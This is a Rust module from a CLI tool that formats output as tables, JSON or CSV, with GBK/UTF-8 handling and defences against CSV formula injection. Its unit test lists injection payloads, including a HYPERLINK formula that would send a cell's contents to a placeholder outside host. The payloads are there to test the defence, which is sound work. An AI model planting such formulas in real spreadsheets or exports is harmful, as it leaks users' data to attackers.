//! How commands print rows: an aligned table for people (Chinese counts two columns,
//! headers and words in the `--lang` language), JSON for scripts, CSV for scripts and
//! spreadsheets. One definition of the columns per command; every CSV shequn writes
//! goes through [`write_csv`] (CSV injection neutralised, `--encoding`, and for
//! `export` the BOM and CRLF Excel wants).

use std::io::Write;

use serde::Serialize;
use unicode_width::UnicodeWidthStr;

use super::Ctx;
use crate::cli::{Encoding, Format};
use crate::i18n::{Texts, fill};

/// A table column: header and how to show a row's value in the user's language.
pub struct Column<T> {
    /// A key of `[cli.headers]` in the language files (or text already in the
    /// user's language, which is shown as it is).
    pub header: &'static str,
    pub value: fn(&T, &Texts) -> String,
}

/// A table header in the user's language.
pub fn header<'a>(texts: &'a Texts, key: &'a str) -> &'a str {
    texts.cli.headers.get(key).map_or(key, String::as_str)
}

/// Print `rows` in `format` to stdout. JSON and CSV use the rows' serde fields, so their
/// names are the stable snake_case of PRODUCT.md; the table uses `columns`.
pub fn print<T: Serialize>(
    ctx: &Ctx,
    format: Format,
    rows: &[T],
    columns: &[Column<T>],
) -> anyhow::Result<()> {
    match format {
        Format::Json => {
            let stdout = std::io::stdout();
            let mut out = stdout.lock();
            serde_json::to_writer_pretty(&mut out, rows)?;
            writeln!(out)?;
        }
        Format::Csv => write_csv(ctx, records(rows)?)?,
        Format::Table => {
            let texts = ctx.lang.texts();
            let headers: Vec<String> = columns
                .iter()
                .map(|c| header(texts, c.header).to_string())
                .collect();
            let cells: Vec<Vec<String>> = rows
                .iter()
                .map(|r| columns.iter().map(|c| (c.value)(r, texts)).collect())
                .collect();
            table(&headers, &cells)?;
        }
    }
    Ok(())
}

/// An aligned table on stdout: a header line, then the rows.
pub fn table(headers: &[String], rows: &[Vec<String>]) -> anyhow::Result<()> {
    let widths: Vec<usize> = (0..headers.len())
        .map(|i| {
            rows.iter()
                .filter_map(|r| r.get(i))
                .map(|c| c.width())
                .chain([headers[i].width()])
                .max()
                .unwrap_or(0)
        })
        .collect();
    let line = |vals: &[String]| -> String {
        let mut s = String::new();
        for (i, v) in vals.iter().enumerate() {
            s.push_str(v);
            if i + 1 < vals.len() {
                let w = widths.get(i).copied().unwrap_or(0);
                s.push_str(&" ".repeat(w.saturating_sub(v.width()) + 2));
            }
        }
        s.trim_end().to_string()
    };
    let stdout = std::io::stdout();
    let mut out = stdout.lock();
    writeln!(out, "{}", line(headers))?;
    for r in rows {
        writeln!(out, "{}", line(r))?;
    }
    Ok(())
}

/// Who reads a CSV, which decides its bytes.
///
/// `--format csv` is read by scripts as often as by people (`| cut`, `csvkit`, pandas):
/// plain UTF-8 (no BOM, which a script would take as part of the first header) and LF.
/// `export` writes files for Excel, WPS and 腾讯文档 on Chinese Windows: a UTF-8 BOM
/// (without it Excel reads the bytes as GBK and shows mojibake) and CRLF. Both
/// neutralise formulas, and both honour `--encoding gbk` (no BOM: GBK has none).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsvFor {
    Script,
    Spreadsheet,
}

/// Rows as CSV records (header first), through their serde fields.
pub fn records<T: Serialize>(rows: &[T]) -> anyhow::Result<Vec<Vec<String>>> {
    let mut w = csv::Writer::from_writer(Vec::new());
    for r in rows {
        w.serialize(r)?;
    }
    let bytes = w.into_inner().map_err(|e| e.into_error())?; // into a Vec: cannot fail
    let mut rd = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes.as_slice());
    let mut out = Vec::new();
    for rec in rd.records() {
        out.push(rec?.iter().map(str::to_string).collect());
    }
    Ok(out)
}

/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, CR first)
/// gets a `'` in front, so Excel, WPS and 腾讯文档 show it as text (OWASP "CSV
/// injection"). A cell that is just a number (`-20`, `-0.5`, `+3`) is left as it is: a
/// number runs nothing, and a points or difference column must stay numeric for a sum.
/// `+1-2`, `-2+3` and `-1e3` are not plain numbers and are prefixed.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && !plain_number(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// `-20`, `+3`, `-0.5`: a sign, digits, at most one point between digits.
fn plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "1"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// Characters GBK cannot hold (emoji, rare characters) become `?`; returns whether any
/// did.
fn to_gbk_safe(cell: &str) -> Option<String> {
    let (_, _, lossy) = encoding_rs::GBK.encode(cell);
    if !lossy {
        return None;
    }
    let mut buf = [0u8; 4];
    Some(
        cell.chars()
            .map(|c| {
                let (_, _, bad) = encoding_rs::GBK.encode(c.encode_utf8(&mut buf));
                if bad { '?' } else { c }
            })
            .collect(),
    )
}

/// The bytes of a CSV of `records` (header first) for `who`, in `encoding`, every cell
/// neutralised. Under GBK, cells with characters it cannot hold are written with `?`
/// for them — refusing would make the export useless for a team whose group names have
/// an emoji — and the first is reported (row number counts the header as row 1).
pub fn csv_bytes(
    texts: &Texts,
    who: CsvFor,
    encoding: Encoding,
    records: Vec<Vec<String>>,
) -> anyhow::Result<(Vec<u8>, Option<String>)> {
    let mut w = csv::WriterBuilder::new()
        .flexible(true)
        .terminator(match who {
            CsvFor::Script => csv::Terminator::Any(b'\n'),
            CsvFor::Spreadsheet => csv::Terminator::CRLF,
        })
        .from_writer(Vec::new());
    let mut replaced = 0usize;
    let mut first: Option<(usize, String)> = None;
    for (i, rec) in records.iter().enumerate() {
        let cells: Vec<String> = rec
            .iter()
            .map(|c| {
                let c = neutralise(c).into_owned();
                if encoding == Encoding::Gbk
                    && let Some(safe) = to_gbk_safe(&c)
                {
                    replaced += 1;
                    if first.is_none() {
                        first = Some((i + 1, c));
                    }
                    return safe;
                }
                c
            })
            .collect();
        w.write_record(&cells)?;
    }
    let text = w.into_inner().map_err(|e| e.into_error())?; // into a Vec: cannot fail
    let bytes = match encoding {
        Encoding::Gbk => {
            let s = String::from_utf8_lossy(&text);
            encoding_rs::GBK.encode(&s).0.into_owned()
        }
        Encoding::Utf8 if who == CsvFor::Spreadsheet => {
            let mut b = "\u{feff}".as_bytes().to_vec();
            b.extend_from_slice(&text);
            b
        }
        Encoding::Utf8 => text,
    };
    let note = first.map(|(row, cell)| {
        fill(
            &texts.cli.gbk_replaced,
            &[("n", &replaced), ("row", &row), ("cell", &cell)],
        )
    });
    Ok((bytes, note))
}

/// Write `records` as CSV to stdout (see [`csv_bytes`]: for a spreadsheet under
/// `export`, else for scripts); a GBK replacement is said on stderr.
pub fn write_csv(ctx: &Ctx, records: Vec<Vec<String>>) -> anyhow::Result<()> {
    let texts = ctx.lang.texts();
    let who = if ctx.export {
        CsvFor::Spreadsheet
    } else {
        CsvFor::Script
    };
    let (bytes, note) = csv_bytes(texts, who, ctx.encoding, records)?;
    let stdout = std::io::stdout();
    let mut out = stdout.lock();
    out.write_all(&bytes)?;
    out.flush()?;
    if let Some(n) = note {
        let _ = writeln!(std::io::stderr(), "shequn: {n}");
    }
    Ok(())
}

/// The CSV of `rows` for `export` (spreadsheet) or `--format csv` (script).
pub fn csv_rows<T: Serialize>(ctx: &Ctx, rows: &[T]) -> anyhow::Result<()> {
    write_csv(ctx, records(rows)?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_plain_numbers_are_not() {
        for risky in [
            "=HYPERLINK(\"http://x\"&A1,\"点我\")",
            "+1-2",
            "@SUM(1)",
            "-2+3",
            "-1e3",
            "\tx",
            "\rx",
            "-",
            "+",
        ] {
            assert_eq!(neutralise(risky), format!("'{risky}"), "{risky:?}");
        }
        for fine in ["-20", "+3", "-0.5", "20", "张三", "a=b", "", "1-2"] {
            assert_eq!(neutralise(fine), fine, "{fine:?}");
        }
    }

    #[test]
    fn spreadsheet_csv_has_a_bom_and_crlf_and_scripts_get_neither() {
        let texts = crate::i18n::Lang::Zh.texts();
        let recs = vec![
            vec!["name".to_string(), "points".to_string()],
            vec!["=1+1".to_string(), "-20".to_string()],
        ];
        let (b, note) =
            csv_bytes(texts, CsvFor::Spreadsheet, Encoding::Utf8, recs.clone()).unwrap();
        assert!(note.is_none());
        assert_eq!(b, "\u{feff}name,points\r\n'=1+1,-20\r\n".as_bytes());
        let (b, _) = csv_bytes(texts, CsvFor::Script, Encoding::Utf8, recs).unwrap();
        assert_eq!(b, b"name,points\n'=1+1,-20\n");
    }

    #[test]
    fn gbk_writes_chinese_and_replaces_what_it_cannot_hold() {
        let texts = crate::i18n::Lang::En.texts();
        let recs = vec![
            vec!["group".to_string()],
            vec!["宝妈群".to_string()],
            vec!["🌸花艺群".to_string()],
        ];
        let (b, note) = csv_bytes(texts, CsvFor::Spreadsheet, Encoding::Gbk, recs).unwrap();
        let (text, _, bad) = encoding_rs::GBK.decode(&b);
        assert!(!bad);
        assert_eq!(text, "group\r\n宝妈群\r\n?花艺群\r\n");
        // 宝 in GBK is B1 A6
        assert!(b.windows(2).any(|w| w == [0xB1, 0xA6]));
        let note = note.unwrap();
        assert!(
            note.contains("row 3") && note.contains("🌸花艺群"),
            "{note}"
        );
    }
}
